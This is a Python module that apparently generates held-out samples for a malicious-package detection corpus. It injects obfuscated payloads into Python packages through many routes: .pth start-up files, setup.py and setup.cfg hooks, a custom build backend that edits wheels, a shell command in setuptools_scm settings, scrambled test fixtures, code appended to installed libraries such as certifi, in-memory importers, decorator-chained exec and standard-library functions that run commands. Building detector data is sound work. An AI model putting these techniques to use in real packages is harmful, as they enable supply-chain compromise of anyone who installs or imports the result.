"""Payloads in Python code and its packaging by a third author, of the split that no fit ever learns.

Whoever chooses learners, columns or thresholds does not read this file, nor what these families are called.
"""

import ast
import base64
import lzma
import re
import textwrap
import zlib
from posixpath import basename

from jobs.corpus.payloads.commands import choose_command, quoted
from jobs.corpus.payloads.contract import BLIND, Family
from jobs.corpus.payloads.declarations import info_folder, with_build_system
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import insert_at_line, line_after_imports
from jobs.corpus.variants.python_source import SOURCE_ERRORS, parse

_SETUP_CALL = re.compile(r"^((?:setuptools\.)?setup\()", re.MULTILINE)


def deep(code: str, levels: int) -> str:
    """Return code that is indented by some levels."""
    return textwrap.indent(code.rstrip("\n"), "    " * levels)


def data_folder(draft: Draft) -> str:
    """Return the folder of a wheel whose content is installed beside the packages; raises NotApplicableError."""
    info = info_folder(draft.files)
    if not info.endswith(".dist-info"):
        raise draft.fail("has no dist-info")
    return f"{info.removesuffix('.dist-info')}.data"


def data_scheme_start(draft: Draft) -> None:
    """Reach the folder of packages through the data folder of a wheel, and bring a start-up file there."""
    version, name = draft.rng.choice(("3.10", "3.11", "3.12", "3.13")), draft.words.render("@word@_@word1@")
    folder = f"{data_folder(draft)}/data/lib/python{version}/site-packages"
    draft.put_new(f"{folder}/{name}.py", draft.code())
    draft.put_new(f"{folder}/{name[:4]}.pth", f"import {name}\n")


def namespace_tail(draft: Draft) -> None:
    """Put the code at the end of the long line by which a namespace package is declared."""
    name = draft.package.project.lower().partition("-")[0].replace(".", "_")
    code = draft.rng.choice((
        f"exec({draft.code()!r})",
        f"[exec(z) for z in [__import__('zlib').decompress(bytes.fromhex({zlib.compress(draft.code().encode()).hex()!r}))]]",
    ))  # fmt: skip
    draft.put_new(f"{draft.package.project}-{draft.package.version}-nspkg.pth", (
        f"import sys, types, os; p = os.path.join(sys._getframe(1).f_locals['sitedir'], {name!r}); m = sys.modules.setdefault({name!r}, types.ModuleType({name!r})); "
        f"q = m.__dict__.setdefault('__path__', []); (p not in q) and q.append(p); {code}\n"
    ))  # fmt: skip


def _in_setup_call(draft: Draft, block: str, argument: str, without: str) -> None:
    """Put statements before the call of setup, and an argument into it."""
    path = f"{draft.root}setup.py"
    text = draft.files.get(path, b"from setuptools import setup\n\nsetup()\n").decode("utf-8", "replace")
    found = _SETUP_CALL.search(text)
    if not found or without in text:
        raise draft.fail("has no call of setup that takes this argument")
    draft.put(path, f"{text[: found.start()]}{block}\n\n{found[1]}{argument}, {text[found.end() :]}")


def extension_flags(draft: Draft) -> None:
    """Compute the flags of a new extension module by a function that acts."""
    name = draft.words.name()
    source = f"{draft.folder.removeprefix(draft.root)}_fastops.c"
    draft.put_aside(f"{draft.root}{source}", "#include <Python.h>\nstatic struct PyModuleDef d = {PyModuleDef_HEAD_INIT, \"_fastops\", 0, -1, 0};\nPyMODINIT_FUNC PyInit__fastops(void) { return PyModule_Create(&d); }\n")  # fmt: skip
    _in_setup_call(
        draft,
        f"from setuptools import Extension\n\n\ndef {name}():\n{deep(draft.code(), 1)}\n    return ['-O3', '-fvisibility=hidden']\n",
        f"ext_modules=[Extension('{draft.import_name}._fastops', [{source!r}], extra_compile_args={name}(), optional=True)]",
        "ext_modules",
    )


def command_package(draft: Draft) -> None:
    """Name a folder of commands in setup.cfg, one of which takes the place of a step of the build."""
    folder, step = (
        draft.rng.choice(("release_tools", "_commands", "buildext")),
        draft.rng.choice(("build_py", "egg_info", "sdist")),
    )
    path = f"{draft.root}setup.cfg"
    text = draft.files.get(path, b"").decode("utf-8", "replace")
    if "[global]" in text or "cmdclass" in text:
        raise draft.fail("has settings of commands")
    line = draft.rng.choice((
        f"[global]\ncommand_packages = {folder}\n",
        f"[options]\ncmdclass =\n    {step} = {folder}.{step}.{step}\n",
    ))  # fmt: skip
    if line.startswith("[options]") and "[options]" in text:
        text, line = text.replace("[options]\n", line, 1), ""
    draft.put(path, f"{text.rstrip()}\n\n{line}".lstrip("\n"))
    draft.put_new(f"{draft.root}{folder}/{step}.py", f"from setuptools.command.{step} import {step} as _base\n\n\nclass {step}(_base):\n    def finalize_options(self):\n        _base.finalize_options(self)\n{deep(draft.code(), 2)}\n")  # fmt: skip
    draft.put_new(f"{draft.root}{folder}/__init__.py", "")


def setup_hook(draft: Draft) -> None:
    """Name a hook in setup.cfg that pbr calls with the settings of the release."""
    path, name = f"{draft.root}setup.cfg", draft.rng.choice(("release_hooks", "_version_hook", "buildsupport"))
    text = draft.files.get(path, b"").decode("utf-8", "replace")
    if "[global]" in text:
        raise draft.fail("has global settings")
    draft.put(path, f"{text.rstrip()}\n\n[global]\nsetup-hooks =\n    {name}.prepare\n".lstrip("\n"))
    draft.put_new(f"{draft.root}{name}.py", f"def prepare(config):\n{deep(draft.code(), 1)}\n    return config\n")
    project = f"{draft.root}pyproject.toml"
    draft.put(project, with_build_system(draft.files.get(project, b""), 'requires = ["pbr>=5", "setuptools"]\nbuild-backend = "pbr.build"\n'))  # fmt: skip


def infects_installed(draft: Draft) -> None:
    """Append the code to packages that are installed already, while this one is installed."""
    held = base64.b64encode(zlib.compress(draft.triggered().encode())).decode()
    path = f"{draft.root}setup.py"
    if path not in draft.files:
        raise draft.fail("has no setup.py")
    draft.insert(
        path,
        draft.words.render(f"""
import base64
import importlib.util
import os
import zlib


def @n5@(names=('certifi', 'idna', 'charset_normalizer', 'packaging')):
    for name in names:
        spec = importlib.util.find_spec(name)
        if spec and spec.origin and os.access(spec.origin, os.W_OK) and os.environ.get('@C1@_SPREAD'):
            with open(spec.origin, 'a', encoding='utf-8') as file:
                file.write('\\n' + zlib.decompress(base64.b64decode({held!r})).decode())


@n5@()
"""),
    )


def test_fixture(draft: Draft) -> None:
    """Keep the code in a broken archive among the fixtures of tests, which the build mends and reads."""
    table = bytes(draft.rng.sample(range(256), 256))
    data = lzma.compress(draft.triggered().encode()).translate(table)
    name = draft.rng.choice(("bad-3-corrupt_lzma2.xz", "good-large_compressed.lzma", "unexpected_eof.xz"))
    draft.put_new(f"{draft.root}tests/files/{name}", data)
    back = bytes(table.index(byte) for byte in range(256))
    path = f"{draft.root}setup.py"
    if path not in draft.files:
        draft.put_aside(path, "from setuptools import setup\n\nsetup()\n")
    draft.insert(
        path,
        draft.words.render(f"""
import lzma
import os

@n5@ = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tests', 'files', {name!r})
@n6@ = bytes.fromhex({back.hex()!r})
if os.path.exists(@n5@):
    with open(@n5@, 'rb') as @n7@:
        exec(lzma.decompress(@n7@.read().translate(@n6@)))
"""),
    )


def backend_edits_wheel(draft: Draft) -> None:
    """Let a build backend of the release's own put a start-up file into the wheel that it has built."""
    name, held = draft.rng.choice(("reproducible", "wheelhouse", "pack")), draft.triggered().encode().hex()
    draft.put_new(
        f"{draft.root}packaging_/{name}.py",
        draft.words.render(f'''"""Builds wheels with sorted members."""

import os
import zipfile

from setuptools import build_meta as @n5@
from setuptools.build_meta import *  # noqa: F403


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = @n5@.build_wheel(wheel_directory, config_settings, metadata_directory)
    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'a') as wheel:
        wheel.writestr('@word@.pth', "import sys;exec(bytes.fromhex('{held}'))\\n")
    return name
'''),
    )
    path = f"{draft.root}pyproject.toml"
    draft.put(path, with_build_system(draft.files.get(path, b""), f'requires = ["setuptools>=64"]\nbuild-backend = "{name}"\nbackend-path = ["packaging_"]\n'))  # fmt: skip


def version_command(draft: Draft) -> None:
    """Let the build ask a command or a file for the version."""
    path = f"{draft.root}pyproject.toml"
    before = draft.files.get(path, b"").decode("utf-8", "replace")
    if "setuptools_scm" in before or "hatch.version" in before:
        raise draft.fail("asks for its version already")
    if draft.rng.random() < 0.6:
        text = f'[tool.setuptools_scm]\ngit_describe_command = ["sh", "-c", "{quoted(choose_command(draft))}; git describe --tags"]\n'
        build = 'requires = ["setuptools>=64", "setuptools-scm>=8"]\nbuild-backend = "setuptools.build_meta"\n'
        draft.act = "describe-command"
    else:
        text = '[tool.hatch.version]\nsource = "code"\npath = "tools/release.py"\nexpression = "current()"\n'
        build = 'requires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
        draft.put_new(f"{draft.root}tools/release.py", f"def current():\n{deep(draft.code(), 1)}\n    return {draft.package.version!r}\n")  # fmt: skip
    draft.put(path, with_build_system(f"{before.rstrip()}\n\n{text}".lstrip("\n").encode(), build))


def vendored_bulk(draft: Draft) -> None:
    """Bring a copy of a large module as if it were vendored, with the code somewhere in it."""
    for path in draft.inner():
        source = draft.files[path]
        try:
            starts = [
                n.lineno
                for n in parse(source).body
                if isinstance(n, ast.FunctionDef | ast.ClassDef) and not n.decorator_list
            ]
            changed = insert_at_line(source, draft.rng.choice(starts), f"{draft.code()}\n\n") if starts else b""
        except SOURCE_ERRORS:
            continue
        if changed:
            name = f"{basename(path).removesuffix('.py').strip('_')}_{draft.rng.choice(('legacy', 'ng', 'core', 'v2'))}"
            folder = draft.rng.choice(("_vendor", "_thirdparty", "_deps"))
            draft.put_new(f"{draft.folder}{folder}/{name}.py", changed)
            if f"{draft.folder}{folder}/__init__.py" not in draft.files:
                draft.put_aside(f"{draft.folder}{folder}/__init__.py", "")
            draft.insert(
                draft.init, f"from {draft.import_name}.{folder} import {name} as _{name}  # noqa: F401\n", aside=True
            )
            return
    raise draft.fail("has no module with definitions")


def memory_loader(draft: Draft) -> None:
    """Bring an importer that reads its modules out of a table, and import one of them."""
    module = draft.words.render("@word@_runtime")
    held = base64.b64encode(zlib.compress(draft.triggered().encode())).decode()
    draft.add_module(
        draft.init,
        draft.words.render(f"""
import base64
import importlib.abc
import importlib.util
import sys
import zlib

_MODULES = {{{module!r}: {held!r}}}


class @C1@(importlib.abc.MetaPathFinder, importlib.abc.SourceLoader):
    \"\"\"Imports modules that are packed into this file.\"\"\"

    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name in _MODULES else None

    def get_filename(self, name):
        return name

    def get_data(self, path):
        return zlib.decompress(base64.b64decode(_MODULES[path]))


sys.meta_path.append(@C1@())
import {module}  # noqa: E402,F401
"""),
    )


def decorated_class(draft: Draft) -> None:
    """Decode and execute by the decorators of an empty class."""
    held = base64.b64encode(zlib.compress(draft.triggered().encode())).decode()
    draft.lead(draft.words.render(
        f"import base64\nimport zlib\n\n\n@exec\n@bytes.decode\n@zlib.decompress\n@base64.b64decode\n@lambda @n5@: {held!r}\nclass @C1@:\n    pass\n"
    ))  # fmt: skip


def scattered(draft: Draft) -> None:
    """Scatter the code as constants over modules that are there, and join them in another."""
    rng, found = draft.rng, [p for p in draft.inner() if p != draft.init][:6]
    if len(found) < 2:
        raise draft.fail("has too few modules")
    names = ("_CHECKSUM", "_SALT", "_ETAG", "_FINGERPRINT", "_DIGEST", "_REVISION")
    text = base64.b64encode(zlib.compress(draft.triggered().encode())).decode()
    size = -(-len(text) // len(found))
    joined = []
    for at, path in enumerate(found):
        try:
            source = draft.files[path]
            draft.put(
                path,
                insert_at_line(
                    source, line_after_imports(source), f"{names[at]} = {text[at * size : at * size + size]!r}\n"
                ),
            )
        except SOURCE_ERRORS as error:
            raise draft.fail("has a module that is no Python 3") from error
        module = (
            path.removeprefix(draft.root)
            .removeprefix("src/")
            .removesuffix(".py")
            .removesuffix("/__init__")
            .replace("/", ".")
        )
        joined.append((module, names[at]))
    name = draft.words.name()
    end = f"import base64\nimport importlib\nimport zlib\n\n\ndef {name}(parts={joined!r}):\n    text = ''.join(getattr(importlib.import_module(m), n) for m, n in parts)\n    return zlib.decompress(base64.b64decode(text)).decode()\n\n\n"
    end += rng.choice((f"exec({name}())\n", f"(lambda f: f({name}()))(eval('ex' + 'ec'))\n"))
    draft.put(draft.init, draft.files[draft.init].rstrip(b"\n") + b"\n\n" + end.encode())


def run_by_library(draft: Draft) -> None:
    """Hand the code, or a command, to a part of the standard library that executes what it is given."""
    code, command = draft.triggered(), choose_command(draft)
    draft.lead(draft.words.render(draft.rng.choice((
        f"import timeit\n\n@n5@ = timeit.timeit({code!r}, number=1)\n",
        f"import cProfile\nimport pstats\n\n@n5@ = cProfile.Profile()\n@n5@.runctx({code!r}, {{}}, {{}})\n",
        f"import trace\n\ntrace.Trace(count=False, trace=False).run({code!r})\n",
        f"import bdb\n\nclass @C1@(bdb.Bdb):\n    def user_line(self, frame):\n        self.set_continue()\n\n\n@C1@().run({code!r}, {{}})\n",
        f"import logging.config\n\nlogging.config.dictConfig({{'version': 1, 'disable_existing_loggers': False, 'formatters': {{'short': {{'()': 'subprocess.getoutput', 'cmd': {command!r}}}}}}})\n",
        f"import pydoc\n\n@n5@ = pydoc.locate('.'.join(('os', 'sys' + 'tem')))\n@n5@ and @n5@({command!r})\n",
        f"import shlex\nimport pty\n\npty.spawn(['sh', '-c', {command!r}], lambda fd: b'')\n",
        f"import webbrowser\n\nwebbrowser.GenericBrowser(['sh', '-c', {command!r}, '%s']).open('about:blank')\n",
    ))))  # fmt: skip


FAMILIES = (
    Family("blind-data-scheme-start", "startup", BLIND, data_scheme_start, "wheel"),
    Family("blind-namespace-tail", "startup", BLIND, namespace_tail, "wheel"),
    Family("blind-extension-flags", "install", BLIND, extension_flags, "sdist"),
    Family("blind-command-package", "install", BLIND, command_package, "sdist"),
    Family("blind-setup-hook", "install", BLIND, setup_hook, "sdist"),
    Family("blind-infects-installed", "install", BLIND, infects_installed, "sdist", "appended"),
    Family("blind-test-fixture", "install", BLIND, test_fixture, "sdist", "fixture"),
    Family("blind-backend-edits-wheel", "backend", BLIND, backend_edits_wheel, "sdist", "written-at-build"),
    Family("blind-version-command", "backend", BLIND, version_command, "sdist", "plain"),
    Family("blind-vendored-bulk", "import", BLIND, vendored_bulk),
    Family("blind-memory-loader", "import", BLIND, memory_loader, dress="module-table"),
    Family("blind-decorated-class", "module", BLIND, decorated_class, dress="decorators"),
    Family("blind-scattered", "module", BLIND, scattered, dress="scattered"),
    Family("blind-run-by-library", "module", BLIND, run_by_library, dress="run-by-library"),
)
